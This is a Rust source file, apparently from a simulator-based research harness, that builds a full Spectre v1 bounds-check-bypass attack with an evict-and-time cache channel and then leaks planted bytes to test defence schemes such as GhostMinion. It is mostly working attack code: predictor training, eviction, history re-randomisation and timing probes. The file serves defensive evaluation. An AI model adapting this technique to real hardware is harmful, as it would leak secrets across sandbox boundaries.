//! Spectre v1: bounds-check bypass with an evict-and-time cache channel.
//!
//! The whole attack — victim gadget, predictor training, eviction,
//! transient access and timing probe — is one program for the simulated
//! machine, mirroring the in-address-space sandbox threat model (§1.1).

use crate::AttackOutcome;
use ghostminion::{Machine, Scheme, SystemConfig};
use gm_isa::{Asm, DataSegment, MemSize, Reg};
use gm_sim::MemoryBackend;

/// Branch-predictor training calls before each malicious one.
const TRAIN_CALLS: i64 = 12;

/// Layout (line-aligned, far apart so only intended aliasing occurs).
const SIZE_ADDR: u64 = 0x0010_0000; // array1_size, in its own line
const ARRAY1: u64 = 0x0011_0000; // 16 valid byte entries
const SECRET_OFF: u64 = 0x200; // out-of-bounds offset of the secret
const ARRAY2: u64 = 0x0020_0000; // probe array: 256 lines
const PROBE_ORD: u64 = 0x0030_0000; // shuffled probe order
const RESULTS: u64 = 0x0040_0000; // per-guess timings
/// L1D is 64 KiB 2-way => 512 sets: lines 32 KiB apart share a set.
const L1_ALIAS_STRIDE: u64 = 32 * 1024;

fn probe_order(salt: u64) -> Vec<u64> {
    // Pseudo-random permutation of 0..256 (Fisher–Yates with an LCG), so
    // probing has no learnable stride for the prefetcher. `salt` varies
    // the order between attempts: a guess probed in the very first rounds
    // (before the bounds-check bias is established) can miss its signal,
    // so the harness retries with a different order.
    let mut v: Vec<u64> = (0..256).collect();
    let mut state = 0x1234_5678_9abc_def0u64 ^ (salt.wrapping_mul(0x9e37_79b9_7f4a_7c15));
    for i in (1..256usize).rev() {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        let j = (state >> 33) as usize % (i + 1);
        v.swap(i, j);
    }
    v
}

pub(crate) fn program_for_debug(secret: u8) -> gm_isa::Program {
    attack_program(secret, 0)
}

/// Builds the attack program with `secret` planted out of bounds.
fn attack_program(secret: u8, salt: u64) -> gm_isa::Program {
    let mut a = Asm::new("spectre-v1");

    a.data(DataSegment::words(SIZE_ADDR, &[16]));
    // array1: the 16 valid entries hold 0, so training-time transient
    // transmissions only ever touch probe line 0, which the verdict
    // excludes. The secret sits out of bounds.
    let mut arr1 = vec![0u8; (SECRET_OFF + 1) as usize];
    arr1[SECRET_OFF as usize] = secret;
    a.data(DataSegment {
        base: ARRAY1,
        bytes: arr1.into(),
    });
    a.data(DataSegment::words(PROBE_ORD, &probe_order(salt)));

    let (x, ra) = (Reg::x(10), Reg::x(1));
    let (size, b, t) = (Reg::x(11), Reg::x(12), Reg::x(13));
    let (i, n) = (Reg::x(14), Reg::x(15));
    let (t0, t1, g, ord, addr, v, d) = (
        Reg::x(16),
        Reg::x(17),
        Reg::x(18),
        Reg::x(19),
        Reg::x(20),
        Reg::x(21),
        Reg::x(22),
    );

    let gadget = a.label();
    let after_setup = a.label();
    a.j(after_setup);

    // ---- victim gadget: if (x < array1_size) use(array2[array1[x]<<6]) ----
    a.bind(gadget);
    a.emit(gm_isa::Inst::new(
        gm_isa::Op::Ld(MemSize::B8),
        size,
        Reg::ZERO,
        Reg::ZERO,
        SIZE_ADDR as i64,
    ));
    let skip = a.label();
    a.bge(x, size, skip); // bounds check — the mispredicted branch
    a.addi(t, x, ARRAY1 as i64);
    a.ld_sized(MemSize::B1, b, t, 0); // array1[x] (transiently: the secret)
    a.slli(t, b, 6);
    a.addi(t, t, ARRAY2 as i64);
    a.ld(Reg::x(23), t, 0); // transmit: touch array2[b*64]
    a.bind(skip);
    a.jalr(Reg::ZERO, ra, 0);

    a.bind(after_setup);
    // Victim warm-up: the secret line is in cache from the victim's own
    // legitimate use (standard Spectre PoC precondition).
    a.li(t, (ARRAY1 + SECRET_OFF) as i64);
    a.ld_sized(MemSize::B1, Reg::x(24), t, 0);

    // One guess is probed per trigger: the transiently-touched line is
    // timed right after the transient fill settles, so the attack also
    // works against small speculative structures (e.g. MuonTrap's L0
    // filter cache) that a long probe sweep would churn.
    let (chunk, nchunks) = (Reg::x(25), Reg::x(26));
    a.li(chunk, 0);
    a.li(nchunks, 256);
    let chunk_top = a.here();

    // ---- train the bounds check in-bounds ----
    a.li(i, 0);
    a.li(n, TRAIN_CALLS);
    let train = a.here();
    a.andi(x, i, 15);
    a.jal(ra, gadget);
    a.addi(i, i, 1);
    a.bne(i, n, train);

    // ---- evict array1_size from the L1 (2 aliases beat 2 ways) ----
    a.li(t, (SIZE_ADDR + L1_ALIAS_STRIDE) as i64);
    a.ld(Reg::x(24), t, 0);
    a.fence(); // commit each eviction before the next
    a.li(t, (SIZE_ADDR + 2 * L1_ALIAS_STRIDE) as i64);
    a.ld(Reg::x(24), t, 0);
    a.fence();

    // Inject the round number's bits into the global branch history, so
    // the global predictor component sees a fresh context each round and
    // cannot learn the malicious call (the standard history
    // re-randomisation trick in Spectre PoCs).
    for bit in 0..8i64 {
        let skip_bit = a.label();
        a.srli(t, chunk, bit);
        a.andi(t, t, 1);
        a.beq(t, Reg::ZERO, skip_bit);
        a.nop();
        a.bind(skip_bit);
    }

    // ---- the malicious call ----
    a.li(x, SECRET_OFF as i64);
    a.jal(ra, gadget);
    a.fence();

    // Let the transient fill land before probing: the probe must not
    // coalesce on the still-in-flight miss and read miss latency.
    a.li(t, 150);
    let settle = a.here();
    a.addi(t, t, -1);
    a.bne(t, Reg::ZERO, settle);
    a.fence();

    // ---- evict-and-time probe for this round's guess ----
    a.mv(i, chunk);
    a.addi(n, i, 1);
    let probe = a.here();
    a.slli(ord, i, 3);
    a.addi(ord, ord, PROBE_ORD as i64);
    a.ld(g, ord, 0); // guess index (shuffled)
    a.slli(addr, g, 6);
    a.addi(addr, addr, ARRAY2 as i64);
    a.fence();
    a.rdcycle(t0);
    a.ld(v, addr, 0);
    a.fence();
    a.rdcycle(t1);
    a.sub(d, t1, t0);
    a.slli(t, g, 3);
    a.addi(t, t, RESULTS as i64);
    a.st(d, t, 0);
    a.addi(i, i, 1);
    a.bne(i, n, probe);

    a.addi(chunk, chunk, 1);
    a.bne(chunk, nchunks, chunk_top);
    a.halt();
    a.assemble()
}

fn run(scheme: Scheme, secret: u8) -> (u8, Vec<u64>) {
    run_salted(scheme, secret, 0)
}

fn run_salted(scheme: Scheme, secret: u8, salt: u64) -> (u8, Vec<u64>) {
    let prog = attack_program(secret, salt);
    let mut m = Machine::new(scheme, SystemConfig::micro2021(), vec![prog]);
    m.run(20_000_000);
    let timings: Vec<u64> = (0..256)
        .map(|g| m.mem().read_value(RESULTS + g * 8, 8))
        .collect();
    // Ignore guess 0 (touched by training transmissions).
    let (argmin, &min) = timings
        .iter()
        .enumerate()
        .skip(1)
        .min_by_key(|(_, &t)| t)
        .expect("non-empty");
    let mut sorted: Vec<u64> = timings[1..].to_vec();
    sorted.sort_unstable();
    let median = sorted[sorted.len() / 2];
    // Signal: the fastest probe is clearly below the median.
    let distinguishable = min + 10 < median;
    let leaked_byte = if distinguishable { argmin as u8 } else { 0 };
    (leaked_byte, timings)
}

/// Attempts to leak one secret byte; `leaked` is true iff the recovered
/// byte matches the planted secret with a clear timing signal.
pub fn spectre_v1(scheme: Scheme) -> AttackOutcome {
    let secret = 0x47; // 'G'
    let (got, timings) = run(scheme, secret);
    let leaked = got == secret;
    let t_secret = timings[secret as usize];
    let t_other = timings[(secret as usize + 13) % 256];
    AttackOutcome {
        scheme: scheme.name(),
        leaked,
        evidence: format!(
            "planted {secret:#04x}, recovered {got:#04x}; probe(secret)={t_secret} \
             probe(other)={t_other}"
        ),
    }
}

/// Leaks one planted byte with one machine run per attempt, retrying
/// with a different probe order (up to four in all) while the timing
/// signal is inconclusive. Returns the recovered byte, or 0 if no attempt
/// gave a clear signal.
pub fn spectre_v1_byte(scheme: Scheme, secret: u8) -> u8 {
    (0..4)
        .map(|salt| run_salted(scheme, secret, salt).0)
        .find(|&got| got != 0)
        .unwrap_or(0)
}

/// Leaks a whole string one byte at a time (the classic PoC loop), each
/// byte by [`spectre_v1_byte`]. Returns `(recovered, planted)`.
pub fn spectre_v1_string(scheme: Scheme, secret: &[u8]) -> (Vec<u8>, Vec<u8>) {
    let recovered = secret.iter().map(|&b| spectre_v1_byte(scheme, b)).collect();
    (recovered, secret.to_vec())
}
